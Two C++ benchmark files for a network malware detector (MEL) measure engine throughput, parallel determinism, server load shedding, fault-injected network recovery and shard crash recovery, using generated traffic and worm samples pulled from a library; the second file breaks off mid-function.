  // — what a scrape of a live deployment at this traffic mix would show
  // (docs/observability.md).
  std::FILE* prom =
      std::fopen(MEL_BENCH_REPO_ROOT "/BENCH_parallel_metrics.prom", "w");
  if (prom == nullptr) {
    std::fprintf(stderr, "cannot write BENCH_parallel_metrics.prom\n");
    return;
  }
  std::fputs(out.metrics_scrape.c_str(), prom);
  std::fclose(prom);
  std::printf("\nWrote %s and BENCH_parallel_metrics.prom\n", path);
}

/// Sequential single-core pass of each MEL engine over the full corpus
/// (persistent scratch, standalone payloads — same shape as a worker
/// thread's life). Cross-checks every payload's full MelResult between
/// the engines on every repetition; any mismatch fails the bench.
int run_engine_comparison(const std::vector<mel::util::ByteBuffer>& corpus,
                          std::uint64_t total_bytes, int repetitions,
                          BenchOutput& out) {
  mel::bench::print_section(
      "Engine comparison — decode-once cache vs legacy DAG (single core)");

  const mel::exec::MelOptions options;  // DAWN rules, no limits: full DP.
  std::vector<mel::exec::MelResult> legacy(corpus.size());
  std::vector<mel::exec::MelResult> cached(corpus.size());
  mel::exec::MelScratch legacy_scratch;
  mel::exec::MelScratch cached_scratch;

  double legacy_best = 0.0;
  double cached_best = 0.0;
  for (int rep = 0; rep < repetitions; ++rep) {
    const auto legacy_start = Clock::now();
    for (std::size_t i = 0; i < corpus.size(); ++i) {
      legacy[i] = mel::exec::compute_mel_dag(corpus[i], options,
                                             legacy_scratch);
    }
    const auto legacy_stop = Clock::now();
    const auto cached_start = Clock::now();
    for (std::size_t i = 0; i < corpus.size(); ++i) {
      cached[i] = mel::exec::compute_mel_cached(corpus[i], options,
                                                cached_scratch);
    }
    const auto cached_stop = Clock::now();

    for (std::size_t i = 0; i < corpus.size(); ++i) {
      if (!mel_results_equal(legacy[i], cached[i])) {
        std::fprintf(stderr,
                     "ENGINE MISMATCH on payload %zu: cached engine diverged "
                     "from kAllPathsDag (mel %lld vs %lld).\n",
                     i, static_cast<long long>(cached[i].mel),
                     static_cast<long long>(legacy[i].mel));
        out.status = "engine mismatch on payload " + std::to_string(i);
        return 1;
      }
    }

    const double legacy_seconds =
        std::chrono::duration<double>(legacy_stop - legacy_start).count();
    const double cached_seconds =
        std::chrono::duration<double>(cached_stop - cached_start).count();
    if (rep == 0 || legacy_seconds < legacy_best) legacy_best = legacy_seconds;
    if (rep == 0 || cached_seconds < cached_best) cached_best = cached_seconds;
  }

  EngineComparison& cmp = out.engines;
  cmp.ran = true;
  cmp.payloads = corpus.size();
  cmp.bit_identical = true;
  cmp.legacy_seconds = legacy_best;
  cmp.cached_seconds = cached_best;
  const double mb = static_cast<double>(total_bytes) / 1e6;
  cmp.legacy_mb_per_sec = mb / legacy_best;
  cmp.cached_mb_per_sec = mb / cached_best;
  cmp.speedup = cmp.cached_mb_per_sec / cmp.legacy_mb_per_sec;

  std::printf("%24s %10s %10s\n", "engine", "sec", "MB/s");
  std::printf("%24s %10.3f %10.1f\n", "kAllPathsDag (legacy)", legacy_best,
              cmp.legacy_mb_per_sec);
  std::printf("%24s %10.3f %10.1f\n", "kCachedDag", cached_best,
              cmp.cached_mb_per_sec);
  std::printf("Cached-engine speedup: %.2fx; results bit-identical on all "
              "%zu payloads (all 7 MelResult fields).\n",
              cmp.speedup, cmp.payloads);
  return 0;
}

/// The corpus as ONE reassembled flow through a StreamDetector running
/// the cached engine. Raw MB/s divides by stream bytes consumed;
/// effective MB/s divides by the bytes actually scanned, counting the
/// overlap re-fed at the front of each window (the engine's real
/// workload — docs/performance.md, "raw vs effective MB/s").
int run_stream_section(const std::vector<mel::util::ByteBuffer>& corpus,
                       BenchOutput& out) {
  mel::bench::print_section(
      "Stream throughput — raw vs effective MB/s (cached engine)");

  mel::core::StreamConfig config;
  config.detector.engine = mel::exec::MelEngine::kCachedDag;
  auto detector_or = mel::core::StreamDetector::create(config);
  if (!detector_or.is_ok()) {
    std::fprintf(stderr, "stream config rejected: %s\n",
                 detector_or.status().to_string().c_str());
    out.status = "stream config rejected";
    return 1;
  }
  mel::core::StreamDetector detector = std::move(detector_or).take();

  std::uint64_t alerts = 0;
  const auto start = Clock::now();
  for (const auto& payload : corpus) {
    alerts += detector.feed(payload).size();
  }
  alerts += detector.finish().size();
  const auto stop = Clock::now();

  StreamThroughput& s = out.stream;
  s.ran = true;
  s.seconds = std::chrono::duration<double>(stop - start).count();
  s.bytes_consumed = detector.bytes_consumed();
  s.bytes_scanned = detector.bytes_scanned();
  s.windows = detector.windows_scanned();
  s.alerts = alerts;
  s.raw_mb_per_sec = static_cast<double>(s.bytes_consumed) / 1e6 / s.seconds;
  s.effective_mb_per_sec =
      static_cast<double>(s.bytes_scanned) / 1e6 / s.seconds;

  std::printf("Windows scanned: %llu (%zu-byte windows, %zu-byte overlap), "
              "alerts: %llu.\n",
              static_cast<unsigned long long>(s.windows), config.window_size,
              config.overlap, static_cast<unsigned long long>(alerts));
  std::printf("Raw:       %10.1f MB/s  (%llu stream bytes consumed)\n",
              s.raw_mb_per_sec,
              static_cast<unsigned long long>(s.bytes_consumed));
  std::printf("Effective: %10.1f MB/s  (%llu bytes scanned incl. re-fed "
              "overlap)\n",
              s.effective_mb_per_sec,
              static_cast<unsigned long long>(s.bytes_scanned));
  return 0;
}

int run(BenchOutput& out) {
  mel::bench::print_title(
      "Parallel scan engine — batch throughput vs worker count");

  const unsigned hardware = std::max(1u, std::thread::hardware_concurrency());
  out.hardware = hardware;
  const auto corpus = out.smoke ? make_traffic(40, 10, 4)
                                : make_traffic(220, 60, 16);
  std::uint64_t total_bytes = 0;
  for (const auto& payload : corpus) total_bytes += payload.size();
  out.payloads = corpus.size();
  out.total_bytes = total_bytes;
  std::printf("\nTraffic: %zu payloads (HTTP + mail + worms), %.1f MB total. "
              "Detected hardware threads: %u.%s\n",
              corpus.size(), static_cast<double>(total_bytes) / 1e6, hardware,
              out.smoke ? " [smoke]" : "");

  const int repetitions = out.smoke ? 1 : 3;
  out.repetitions = repetitions;

  if (run_engine_comparison(corpus, total_bytes, repetitions, out) != 0) {
    return 1;
  }

  // Sequential oracle for the determinism cross-check.
  mel::service::ServiceConfig service_config;
  std::vector<mel::service::BatchItemResult> oracle(corpus.size());
  std::uint64_t alarms = 0;
  {
    auto service_or = mel::service::ScanService::create(service_config);
    if (!service_or.is_ok()) {
      std::fprintf(stderr, "service config rejected: %s\n",
                   service_or.status().to_string().c_str());
      out.status = "service config rejected";
      return 1;
    }
    const mel::service::ScanService service = std::move(service_or).take();
    mel::exec::MelScratch scratch;
    for (std::size_t i = 0; i < corpus.size(); ++i) {
      auto outcome = service.scan(mel::service::ScanRequest{
          .payload = corpus[i], .scratch = &scratch});
      if (outcome.is_ok()) {
        oracle[i].report = std::move(outcome).take();
        alarms += oracle[i].report.verdict.malicious;
      } else {
        oracle[i].status = outcome.status();
      }
    }
  }
  std::printf("\nSequential oracle: %llu alarms raised.\n",
              static_cast<unsigned long long>(alarms));
  out.alarms = alarms;

  std::vector<std::size_t> widths{1, 2, 4};
  if (std::find(widths.begin(), widths.end(), hardware) == widths.end()) {
    widths.push_back(hardware);
  }

  std::vector<WidthResult>& results = out.results;

  mel::bench::print_section(out.smoke
                                ? "Throughput (1 repetition per width)"
                                : "Throughput (best of 3 repetitions per "
                                  "width)");
  std::printf("%8s %10s %14s %10s %10s\n", "workers", "sec", "payloads/s",
              "MB/s", "speedup");
  for (std::size_t workers : widths) {
    mel::service::BatchConfig config;
    config.service = service_config;
    config.workers = workers;
    auto batch_or = mel::service::BatchScanService::create(config);
    if (!batch_or.is_ok()) {
      std::fprintf(stderr, "batch config rejected: %s\n",
                   batch_or.status().to_string().c_str());
      out.status = "batch config rejected";
      return 1;
    }
    const mel::service::BatchScanService batch = std::move(batch_or).take();

    double best_seconds = 0.0;
    for (int rep = 0; rep < repetitions; ++rep) {
      const auto start = Clock::now();
      const auto result = batch.scan_batch(corpus);
      const auto stop = Clock::now();
      if (!result.is_ok()) {
        std::fprintf(stderr, "scan_batch failed at width %zu: %s\n", workers,
                     result.status().to_string().c_str());
        out.status = "scan_batch failed at width " + std::to_string(workers);
        return 1;
      }
      if (!verdicts_match(result.value(), oracle)) {
        std::fprintf(stderr,
                     "DETERMINISM VIOLATION at width %zu: parallel verdicts "
                     "differ from sequential.\n",
                     workers);
        out.status =
            "determinism violation at width " + std::to_string(workers);
        return 1;
      }
      const double seconds =
          std::chrono::duration<double>(stop - start).count();
      if (rep == 0 || seconds < best_seconds) best_seconds = seconds;
    }

    // The widest run's registry becomes the scrape artifact (each width
    // has its own service, so this covers `repetitions` batches).
    out.metrics_scrape = mel::obs::to_prometheus(batch.metrics_snapshot());

    WidthResult row;
    row.workers = workers;
    row.seconds = best_seconds;
    row.payloads_per_sec = static_cast<double>(corpus.size()) / best_seconds;
    row.mb_per_sec = static_cast<double>(total_bytes) / 1e6 / best_seconds;
    row.speedup_vs_1 =
        results.empty() ? 1.0 : results.front().seconds / best_seconds;
    results.push_back(row);
    std::printf("%8zu %10.3f %14.0f %10.1f %9.2fx\n", row.workers,
                row.seconds, row.payloads_per_sec, row.mb_per_sec,
                row.speedup_vs_1);
  }

  std::printf("\nAll widths produced verdicts bit-identical to the "
              "sequential run.\n");
  out.deterministic = true;

  if (run_stream_section(corpus, out) != 0) return 1;

  if (hardware < 4) {
    std::printf("\nNOTE: only %u hardware thread(s) detected — speedups above "
                "1.0x are not\nachievable on this host; compare on a "
                "multi-core machine (docs/performance.md).\n",
                hardware);
  }
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  BenchOutput out;
  for (int i = 1; i < argc; ++i) {
    if (std::strcmp(argv[i], "--smoke") == 0) {
      out.smoke = true;
    } else {
      std::fprintf(stderr, "usage: %s [--smoke]\n", argv[0]);
      return 2;
    }
  }
  const int rc = run(out);
  if (rc != 0 && out.status == "ok") out.status = "failed";
  emit_json(out);
  return rc;
}
