// Network front-end throughput: the shared-nothing MelServer driven
// over loopback TCP by concurrent blocking clients. Reports
//
//   * connection churn (connect + ping + close per second) — the
//     acceptor/dispatch path,
//   * sustained scan throughput and admitted-path latency percentiles
//     across the shard fleet,
//   * overload behavior at 4x capacity: the admission bucket covers a
//     quarter of the offered requests, so ~75% must be shed — every
//     refusal a well-formed typed kUnavailable error frame with a
//     retry-after hint. A single malformed refusal fails the bench.
//   * faulty-network behavior: the socket fault matrix (short transfers,
//     EAGAIN storms, peer RSTs, accept failures) armed while
//     self-healing clients retry with backoff — reports the retry
//     success rate and the post-storm recovery time. An untyped failure
//     or a recovery above the gate fails the bench.
//   * shard recovery: a supervised server loses a shard thread to an
//     injected crash mid-traffic; the supervisor must condemn and
//     rebuild it inside the 5s gate, and the rebuilt fleet must then
//     serve verdicts bit-identical to a direct in-process ScanService.
//
// Results go to stdout (human table) and BENCH_server_throughput.json
// at the repo root (MEL_BENCH_REPO_ROOT, baked in by CMake) so CI can
// upload the artifact regardless of the working directory. Pass --smoke
// for a CI-sized run (sanitize/tsan trees).

#include <algorithm>
#include <bit>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <thread>
#include <vector>

#include "bench_util.hpp"
#include "mel/net/client.hpp"
#include "mel/net/server.hpp"
#include "mel/service/scan_service.hpp"
#include "mel/super/supervision.hpp"
#include "mel/textcode/encoder.hpp"
#include "mel/traffic/dataset.hpp"
#include "mel/traffic/email_gen.hpp"
#include "mel/util/fault_injection.hpp"
#include "mel/util/rng.hpp"

#ifndef MEL_BENCH_REPO_ROOT
#define MEL_BENCH_REPO_ROOT "."
#endif

namespace {

using Clock = std::chrono::steady_clock;

/// The gateway corpus every throughput bench uses: HTTP + mail + worms,
/// deterministically shuffled.
std::vector<mel::util::ByteBuffer> make_traffic(std::size_t http_cases,
                                                std::size_t mail_cases,
                                                std::size_t worm_cases) {
  mel::traffic::BenignDatasetOptions http_options;
  http_options.cases = http_cases;
  http_options.case_size = 4000;
  auto corpus = mel::traffic::make_benign_dataset(http_options);
  const mel::traffic::EmailGenerator email;
  for (auto& mail : email.make_mail_corpus(mail_cases, 4000, 13)) {
    corpus.push_back(std::move(mail));
  }
  for (const auto& worm : mel::textcode::text_worm_corpus(worm_cases, 2008)) {
    corpus.push_back(worm.bytes);
  }
  mel::util::Xoshiro256 rng(7);
  for (std::size_t i = corpus.size(); i > 1; --i) {
    std::swap(corpus[i - 1], corpus[rng.next_below(i)]);
  }
  return corpus;
}

double percentile(std::vector<double>& sorted_us, double p) {
  if (sorted_us.empty()) return 0.0;
  const auto rank = static_cast<std::size_t>(
      p * static_cast<double>(sorted_us.size() - 1) + 0.5);
  return sorted_us[std::min(rank, sorted_us.size() - 1)];
}

struct ClientLedger {
  std::vector<double> admitted_us;
  std::uint64_t ok = 0;
  std::uint64_t shed = 0;            ///< kUnavailable with retry-after.
  std::uint64_t malformed = 0;       ///< Refusals missing code or hint.
  std::uint64_t transport_errors = 0;
};

/// One client thread: a private blocking connection looping over its
/// slice of the corpus `rounds` times.
void drive_client(std::uint16_t port,
                  const std::vector<mel::util::ByteBuffer>& corpus,
                  std::size_t offset, std::size_t rounds,
                  ClientLedger& ledger) {
  mel::net::ClientConfig config;
  config.port = port;
  auto client_or = mel::net::ScanClient::connect(std::move(config));
  if (!client_or.is_ok()) {
    ledger.transport_errors += rounds * corpus.size();
    return;
  }
  mel::net::ScanClient client = std::move(client_or).take();
  for (std::size_t round = 0; round < rounds; ++round) {
    for (std::size_t i = 0; i < corpus.size(); ++i) {
      const auto& payload = corpus[(offset + i) % corpus.size()];
      const auto start = Clock::now();
      const auto verdict = client.scan(payload);
      const double us =
          std::chrono::duration<double, std::micro>(Clock::now() - start)
              .count();
      if (verdict.is_ok()) {
        ledger.ok += 1;
        ledger.admitted_us.push_back(us);
        continue;
      }
      const mel::util::Status& status = verdict.status();
      if (status.code() == mel::util::StatusCode::kUnavailable) {
        if (status.retry_after().count() > 0) {
          ledger.shed += 1;
        } else {
          ledger.malformed += 1;  // A shed without a hint is a bug.
        }
        continue;
      }
      ledger.transport_errors += 1;
      if (!client.connected()) return;  // Lost the connection: stop.
    }
  }
}

/// Failure codes the faulty-network phase accepts as well-formed; see
/// the chaos soak (test_net_chaos.cpp) for the same vocabulary.
bool is_typed_chaos_failure(mel::util::StatusCode code) {
  using mel::util::StatusCode;
  switch (code) {
    case StatusCode::kUnavailable:
    case StatusCode::kDeadlineExceeded:
    case StatusCode::kResourceExhausted:
    case StatusCode::kInvalidArgument:
    case StatusCode::kInternal:
      return true;
    default:
      return false;
  }
}

struct FaultyLedger {
  std::uint64_t ok = 0;
  std::uint64_t failed = 0;       ///< Typed failures after retries.
  std::uint64_t untyped = 0;      ///< Failures outside the vocabulary.
  std::uint64_t retried = 0;      ///< Scans that needed >= 1 retry.
  std::uint64_t retried_ok = 0;   ///< ...and still completed.
  std::uint64_t retries = 0;      ///< Total retry attempts.
  std::uint64_t reconnects = 0;
};

/// One self-healing client under the fault matrix: retries with
/// decorrelated-jitter backoff, bounded per call by request_deadline.
void drive_faulty_client(std::uint16_t port,
                         const std::vector<mel::util::ByteBuffer>& corpus,
                         std::size_t offset, FaultyLedger& ledger) {
  mel::net::ClientConfig config;
  config.port = port;
  config.retry.max_attempts = 6;
  config.retry.base_backoff = std::chrono::milliseconds(1);
  config.retry.max_backoff = std::chrono::milliseconds(20);
  config.request_deadline = std::chrono::milliseconds(3'000);
  config.connect_deadline = std::chrono::milliseconds(1'000);
  auto client_or = mel::net::ScanClient::connect(std::move(config));
  if (!client_or.is_ok()) {
    ledger.failed += corpus.size();
    if (!is_typed_chaos_failure(client_or.status().code())) {
      ledger.untyped += 1;
    }
    return;
  }
  mel::net::ScanClient client = std::move(client_or).take();
  for (std::size_t i = 0; i < corpus.size(); ++i) {
    const auto& payload = corpus[(offset + i) % corpus.size()];
    const std::uint64_t retries_before = client.stats().retries;
    const auto verdict = client.scan(payload);
    const bool needed_retry = client.stats().retries > retries_before;
    if (needed_retry) ledger.retried += 1;
    if (verdict.is_ok()) {
      ledger.ok += 1;
      if (needed_retry) ledger.retried_ok += 1;
    } else {
      ledger.failed += 1;
      if (!is_typed_chaos_failure(verdict.status().code())) {
        ledger.untyped += 1;
      }
    }
  }
  ledger.retries = client.stats().retries;
  ledger.reconnects = client.stats().reconnects;
}

/// Bit-for-bit agreement between a wire verdict and a direct in-process
/// scan — the contract the rebuilt shard fleet must honor (the same
/// fields the chaos soak checks in test_net_chaos.cpp).
bool wire_matches_direct(const mel::net::WireVerdict& wire,
                         const mel::service::ScanReport& direct) {
  return wire.malicious == direct.verdict.malicious &&
         wire.degraded == direct.verdict.degraded &&
         wire.is_text == direct.verdict.is_text &&
         wire.loop_detected == direct.verdict.loop_detected &&
         wire.mel == direct.verdict.mel &&
         std::bit_cast<std::uint64_t>(wire.threshold) ==
             std::bit_cast<std::uint64_t>(direct.verdict.threshold) &&
         std::bit_cast<std::uint64_t>(wire.alpha) ==
             std::bit_cast<std::uint64_t>(direct.verdict.alpha);
}

}  // namespace

int main(int argc, char** argv) {
  const bool smoke = argc > 1 && std::strcmp(argv[1], "--smoke") == 0;
  const std::size_t shards = smoke ? 2 : 4;
  const std::size_t clients = shards * 2;
  const std::size_t churn_connections = smoke ? 50 : 400;
  const std::size_t sustained_rounds = smoke ? 1 : 3;

  const auto corpus =
      smoke ? make_traffic(40, 10, 4) : make_traffic(220, 60, 16);
  mel::bench::print_title(
      "MEL network front-end: connections/sec, sustained scan "
      "throughput, shed behavior at 4x overload");
  std::printf("corpus: %zu payloads, %zu shard(s), %zu client(s)%s\n",
              corpus.size(), shards, clients, smoke ? "  [smoke]" : "");

  mel::net::ServerConfig config;
  config.service.detector.alpha = 0.01;
  config.shards = shards;

  // --- Phase 1: connection churn ------------------------------------------
  mel::bench::print_section("connection churn (connect + ping + close)");
  double connections_per_sec = 0.0;
  {
    auto server_or = mel::net::MelServer::start(config);
    if (!server_or.is_ok()) {
      std::fprintf(stderr, "server start: %s\n",
                   server_or.status().to_string().c_str());
      return 1;
    }
    auto server = std::move(server_or).take();
    const auto start = Clock::now();
    for (std::size_t i = 0; i < churn_connections; ++i) {
      mel::net::ClientConfig client_config;
      client_config.port = server->port();
      auto client = mel::net::ScanClient::connect(std::move(client_config));
      if (!client.is_ok() || !client.value().ping().is_ok()) {
        std::fprintf(stderr, "churn connection %zu failed\n", i);
        return 1;
      }
    }
    const double seconds =
        std::chrono::duration<double>(Clock::now() - start).count();
    connections_per_sec =
        static_cast<double>(churn_connections) / std::max(seconds, 1e-9);
    std::printf("%zu connections in %.3fs -> %.0f connections/sec\n",
                churn_connections, seconds, connections_per_sec);
    server->drain();
  }

  // --- Phase 2: sustained throughput --------------------------------------
  mel::bench::print_section("sustained throughput (no admission limits)");
  double sustained_rps = 0.0;
  double sustained_p50 = 0.0;
  double sustained_p99 = 0.0;
  {
    auto server = std::move(mel::net::MelServer::start(config).take());
    std::vector<ClientLedger> ledgers(clients);
    std::vector<std::thread> threads;
    const auto start = Clock::now();
    for (std::size_t c = 0; c < clients; ++c) {
      threads.emplace_back(drive_client, server->port(), std::cref(corpus),
                           c * corpus.size() / clients, sustained_rounds,
                           std::ref(ledgers[c]));
    }
    for (auto& thread : threads) thread.join();
    const double seconds =
        std::chrono::duration<double>(Clock::now() - start).count();

    std::vector<double> admitted_us;
    std::uint64_t ok = 0;
    std::uint64_t transport_errors = 0;
    for (const ClientLedger& ledger : ledgers) {
      ok += ledger.ok;
      transport_errors += ledger.transport_errors;
      admitted_us.insert(admitted_us.end(), ledger.admitted_us.begin(),
                         ledger.admitted_us.end());
    }
    if (transport_errors > 0 || ok == 0) {
      std::fprintf(stderr, "sustained phase: %llu transport error(s)\n",
                   static_cast<unsigned long long>(transport_errors));
      return 1;
    }
    std::sort(admitted_us.begin(), admitted_us.end());
    sustained_rps = static_cast<double>(ok) / std::max(seconds, 1e-9);
    sustained_p50 = percentile(admitted_us, 0.50);
    sustained_p99 = percentile(admitted_us, 0.99);
    std::printf("%llu scans in %.3fs -> %.0f req/s  (p50 %.0fus  p99 %.0fus)\n",
                static_cast<unsigned long long>(ok), seconds, sustained_rps,
                sustained_p50, sustained_p99);
    server->drain();
  }

  // --- Phase 3: overload at 4x capacity ------------------------------------
  mel::bench::print_section("overload: admission covers 1/4 of offered load");
  const std::size_t offered = clients * corpus.size();
  std::uint64_t overload_ok = 0;
  std::uint64_t overload_shed = 0;
  std::uint64_t overload_malformed = 0;
  double overload_p99 = 0.0;
  double shed_rate = 0.0;
  {
    mel::net::ServerConfig overload_config = config;
    // Aggregate token bucket = offered/4 (the server divides it across
    // shards); refill is negligible within the run, so ~3/4 of the
    // offered requests must be refused with retry-after hints.
    overload_config.service.admission.rate_per_sec = 1.0;
    overload_config.service.admission.burst =
        static_cast<double>(offered) / 4.0;

    auto server =
        std::move(mel::net::MelServer::start(overload_config).take());
    std::vector<ClientLedger> ledgers(clients);
    std::vector<std::thread> threads;
    for (std::size_t c = 0; c < clients; ++c) {
      threads.emplace_back(drive_client, server->port(), std::cref(corpus),
                           c * corpus.size() / clients, std::size_t{1},
                           std::ref(ledgers[c]));
    }
    for (auto& thread : threads) thread.join();

    std::vector<double> admitted_us;
    std::uint64_t transport_errors = 0;
    for (const ClientLedger& ledger : ledgers) {
      overload_ok += ledger.ok;
      overload_shed += ledger.shed;
      overload_malformed += ledger.malformed;
      transport_errors += ledger.transport_errors;
      admitted_us.insert(admitted_us.end(), ledger.admitted_us.begin(),
                         ledger.admitted_us.end());
    }
    std::sort(admitted_us.begin(), admitted_us.end());
    overload_p99 = percentile(admitted_us, 0.99);
    shed_rate = static_cast<double>(overload_shed) /
                static_cast<double>(std::max<std::size_t>(offered, 1));
    std::printf(
        "offered %zu  admitted %llu  shed %llu (%.1f%%)  malformed %llu  "
        "admitted p99 %.0fus\n",
        offered, static_cast<unsigned long long>(overload_ok),
        static_cast<unsigned long long>(overload_shed), 100.0 * shed_rate,
        static_cast<unsigned long long>(overload_malformed), overload_p99);

    const mel::net::ServerStats stats = server->stats();
    std::printf("server counters: %llu frames, %llu scans ok, %llu rejected\n",
                static_cast<unsigned long long>(stats.frames_received),
                static_cast<unsigned long long>(stats.scans_ok),
                static_cast<unsigned long long>(stats.scans_rejected));
    server->drain();

    if (transport_errors > 0) {
      std::fprintf(stderr, "overload phase: %llu transport error(s)\n",
                   static_cast<unsigned long long>(transport_errors));
      return 1;
    }
  }

  // --- Phase 4: faulty network ---------------------------------------------
  mel::bench::print_section(
      "faulty network: socket fault matrix, self-healing clients");
  std::uint64_t faulty_ok = 0;
  std::uint64_t faulty_failed = 0;
  std::uint64_t faulty_untyped = 0;
  std::uint64_t faulty_retried = 0;
  std::uint64_t faulty_retried_ok = 0;
  std::uint64_t faulty_retries = 0;
  std::uint64_t faulty_reconnects = 0;
  double retry_success_rate = 1.0;
  double recovery_ms = 0.0;
  if (!mel::util::fault::kCompiledIn) {
    std::printf("skipped: MEL_FAULT_INJECTION is compiled out\n");
  } else {
    namespace fault = mel::util::fault;
    mel::net::ServerConfig faulty_config = config;
    faulty_config.loop_tick = std::chrono::milliseconds(5);
    auto server = std::move(mel::net::MelServer::start(faulty_config).take());

    // The full matrix at once, seeded probability triggers: torn
    // transfers, spurious EAGAIN on both directions, peer RSTs, and
    // accept failures, all live simultaneously.
    fault::set_sock_byte_limit(5);
    fault::arm(fault::Point::kSockReadShort,
               fault::Trigger{.probability = 0.3, .seed = 201});
    fault::arm(fault::Point::kSockReadEAgain,
               fault::Trigger{.probability = 0.15, .seed = 202});
    fault::arm(fault::Point::kSockReadReset,
               fault::Trigger{.probability = 0.015, .seed = 203});
    fault::arm(fault::Point::kSockWriteShort,
               fault::Trigger{.probability = 0.3, .seed = 204});
    fault::arm(fault::Point::kSockWriteEAgain,
               fault::Trigger{.probability = 0.15, .seed = 205});
    fault::arm(fault::Point::kSockWriteReset,
               fault::Trigger{.probability = 0.015, .seed = 206});
    fault::arm(fault::Point::kSockAcceptFailure,
               fault::Trigger{.probability = 0.15, .seed = 207});

    std::vector<FaultyLedger> ledgers(clients);
    std::vector<std::thread> threads;
    for (std::size_t c = 0; c < clients; ++c) {
      threads.emplace_back(drive_faulty_client, server->port(),
                           std::cref(corpus), c * corpus.size() / clients,
                           std::ref(ledgers[c]));
    }
    for (auto& thread : threads) thread.join();
    for (const FaultyLedger& ledger : ledgers) {
      faulty_ok += ledger.ok;
      faulty_failed += ledger.failed;
      faulty_untyped += ledger.untyped;
      faulty_retried += ledger.retried;
      faulty_retried_ok += ledger.retried_ok;
      faulty_retries += ledger.retries;
      faulty_reconnects += ledger.reconnects;
    }
    retry_success_rate =
        faulty_retried == 0
            ? 1.0
            : static_cast<double>(faulty_retried_ok) /
                  static_cast<double>(faulty_retried);

    // Recovery: the storm ends; how long until a fresh client gets a
    // verdict from the same server.
    fault::reset();
    const auto recovery_start = Clock::now();
    while (true) {
      mel::net::ClientConfig fresh_config;
      fresh_config.port = server->port();
      fresh_config.request_deadline = std::chrono::milliseconds(2'000);
      auto fresh = mel::net::ScanClient::connect(std::move(fresh_config));
      if (fresh.is_ok() && fresh.value().scan(corpus[0]).is_ok()) break;
      if (Clock::now() - recovery_start > std::chrono::seconds(10)) break;
    }
    recovery_ms = std::chrono::duration<double, std::milli>(
                      Clock::now() - recovery_start)
                      .count();
    std::printf(
        "offered %zu  ok %llu  failed(typed) %llu  untyped %llu\n"
        "retried scans %llu  retry success %.1f%%  (%llu retries, "
        "%llu reconnects)\nrecovery after fault clear: %.1fms\n",
        offered, static_cast<unsigned long long>(faulty_ok),
        static_cast<unsigned long long>(faulty_failed),
        static_cast<unsigned long long>(faulty_untyped),
        static_cast<unsigned long long>(faulty_retried),
        100.0 * retry_success_rate,
        static_cast<unsigned long long>(faulty_retries),
        static_cast<unsigned long long>(faulty_reconnects), recovery_ms);
    server->drain();
  }

  // --- Phase 5: shard recovery ---------------------------------------------
  mel::bench::print_section(
      "shard recovery: injected shard crash under supervision");
  bool recovery_ran = false;
  double shard_recovery_ms = 0.0;
  std::uint64_t recovery_rebuilds = 0;
  std::uint64_t recovery_condemned = 0;
  std::uint64_t recovery_rebuild_failures = 0;
  std::uint64_t recovery_typed_refusals = 0;
  std::uint64_t recovery_untyped = 0;
  std::size_t recovery_checked = 0;
  std::uint64_t recovery_mismatches = 0;
  if (!mel::util::fault::kCompiledIn) {
    std::printf("skipped: MEL_FAULT_INJECTION is compiled out\n");
  } else {
    recovery_ran = true;
    namespace fault = mel::util::fault;
    fault::reset();

    mel::net::ServerConfig supervised = config;
    supervised.loop_tick = std::chrono::milliseconds(2);
    mel::super::SupervisorConfig supervision;
    supervision.heartbeat_interval = std::chrono::milliseconds(5);
    // Crash detection rides the instant thread-exited path; the beat
    // allowance is lenient so loaded CI machines cannot false-positive.
    supervision.missed_heartbeats = 400;
    supervision.stall_grace = 1.5;
    supervision.stall_timeout = std::chrono::milliseconds(200);
    supervision.quarantine_after = 2;
    // Park the brownout ladder: this phase measures recovery fidelity,
    // and a degraded verdict would break the bit-identity check below.
    supervision.brownout.engage_pressure = 100;
    supervised.supervision = supervision;

    auto server = std::move(mel::net::MelServer::start(supervised).take());

    // The truth table: the same detector stack, in process, fault free.
    auto oracle =
        std::move(mel::service::ScanService::create(supervised.service).take());

    // One shard thread dies at a deterministic point once traffic flows.
    fault::arm(fault::Point::kShardHeartbeatLoss,
               fault::Trigger{.start_after = 5, .fire_every = 1'000'000,
                              .max_fires = 1});

    mel::net::ClientConfig retry_config;
    retry_config.port = server->port();
    retry_config.retry.max_attempts = 8;
    retry_config.retry.base_backoff = std::chrono::milliseconds(1);
    retry_config.retry.max_backoff = std::chrono::milliseconds(20);
    retry_config.request_deadline = std::chrono::milliseconds(2'000);
    auto driver =
        std::move(mel::net::ScanClient::connect(std::move(retry_config)).take());

    // Drive traffic until the supervisor has condemned the dead shard
    // and rebuilt it. The clock starts at arming, so the measurement
    // covers detection + condemnation + rebuild + re-deal end to end.
    const auto crash_start = Clock::now();
    std::size_t sent = 0;
    while (Clock::now() - crash_start < std::chrono::seconds(10)) {
      const auto verdict = driver.scan(corpus[sent % corpus.size()]);
      ++sent;
      if (!verdict.is_ok()) {
        if (is_typed_chaos_failure(verdict.status().code())) {
          recovery_typed_refusals += 1;
        } else {
          recovery_untyped += 1;
        }
      }
      if (server->stats().shards_rebuilt >= 1) break;
    }
    shard_recovery_ms = std::chrono::duration<double, std::milli>(
                            Clock::now() - crash_start)
                            .count();
    const mel::net::ServerStats stats = server->stats();
    recovery_rebuilds = stats.shards_rebuilt;
    recovery_condemned = stats.shards_condemned;
    recovery_rebuild_failures = stats.shard_rebuild_failures;

    // Post-recovery fidelity: a fresh client on a clean fault table must
    // get verdicts bit-identical to the in-process oracle.
    fault::reset();
    mel::net::ClientConfig fresh_config;
    fresh_config.port = server->port();
    fresh_config.request_deadline = std::chrono::milliseconds(2'000);
    auto fresh =
        std::move(mel::net::ScanClient::connect(std::move(fresh_config)).take());
    for (std::size_t i = 0; i < 16 && i < corpus.size(); ++i) {
      const auto want =
          oracle.scan(mel::service::ScanRequest{.payload = corpus[i]});
      const auto got = fresh.scan(corpus[i]);
      if (!want.is_ok() || !got.is_ok()) {
        recovery_mismatches += 1;
        continue;
      }
      recovery_checked += 1;
      if (!wire_matches_direct(got.value(), want.value())) {
        recovery_mismatches += 1;
      }
    }
    std::printf(
        "crash -> rebuilt in %.1fms  (condemned %llu, rebuilt %llu, "
        "rebuild failures %llu)\n"
        "during recovery: %zu scans, %llu typed refusal(s), %llu untyped\n"
        "post-recovery: %zu verdicts checked, %llu mismatch(es)\n",
        shard_recovery_ms,
        static_cast<unsigned long long>(recovery_condemned),
        static_cast<unsigned long long>(recovery_rebuilds),
        static_cast<unsigned long long>(recovery_rebuild_failures), sent,
        static_cast<unsigned long long>(recovery_typed_refusals),
